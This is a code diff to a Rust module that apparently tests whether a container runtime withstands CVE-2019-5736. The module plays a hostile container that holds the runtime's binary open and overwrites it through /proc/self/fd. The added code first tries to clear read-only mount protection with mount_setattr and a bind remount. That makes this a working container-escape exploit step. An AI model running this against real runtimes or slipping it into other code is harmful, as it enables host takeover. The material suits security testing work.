@@ -1,6 +1,6 @@
 //! What a hostile container does to a runtime that starts its own program in
-//! it: hold the program open until nobody runs it, then write to it
-//! (CVE-2019-5736).
+//! it: hold the program open until nobody runs it, make the mount it was reached
+//! by writable if it can, then write to it (CVE-2019-5736).
 
 use std::fs::{self, File};
 use std::io::Write;
@@ -11,6 +11,8 @@ use std::process::ExitCode;
 use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result};
+use nix::libc;
+use nix::mount::{MsFlags, mount};
 use serde_json::{Value, json};
 
 use super::processes;
@@ -55,6 +57,7 @@ fn write_to(program: &File) -> String {
     let path = format!("/proc/self/fd/{}", program.as_raw_fd());
     let deadline = Instant::now() + LIMIT / 2;
     loop {
+        open_the_way(program);
         let opened = File::options().write(true).open(&path);
         match opened.and_then(|mut file| file.write_all(b"#!/stolen\n")) {
             Ok(()) => return "yes".into(),
@@ -67,6 +70,31 @@ fn write_to(program: &File) -> String {
             Err(error) => return error.to_string(),
         }
     }
+}
+
+/// If it is a mount that keeps it from writing, that may be changed.
+fn open_the_way(program: &File) {
+    let attributes = libc::mount_attr {
+        attr_set: 0,
+        attr_clr: libc::MOUNT_ATTR_RDONLY,
+        propagation: 0,
+        userns_fd: 0,
+    };
+    // SAFETY: the path is an empty C string, and the attributes live through
+    // the call and have the size given. Whether it succeeds shows in what follows.
+    unsafe {
+        libc::syscall(
+            libc::SYS_mount_setattr,
+            program.as_raw_fd(),
+            c"".as_ptr(),
+            libc::AT_EMPTY_PATH,
+            &raw const attributes,
+            size_of::<libc::mount_attr>(),
+        )
+    };
+    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
+    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
+    let _ = mount(None::<&str>, &*path, None::<&str>, flags, None::<&str>);
 }
 
 fn put(directory: &Path, name: &str, what: &Value) -> Result<()> {
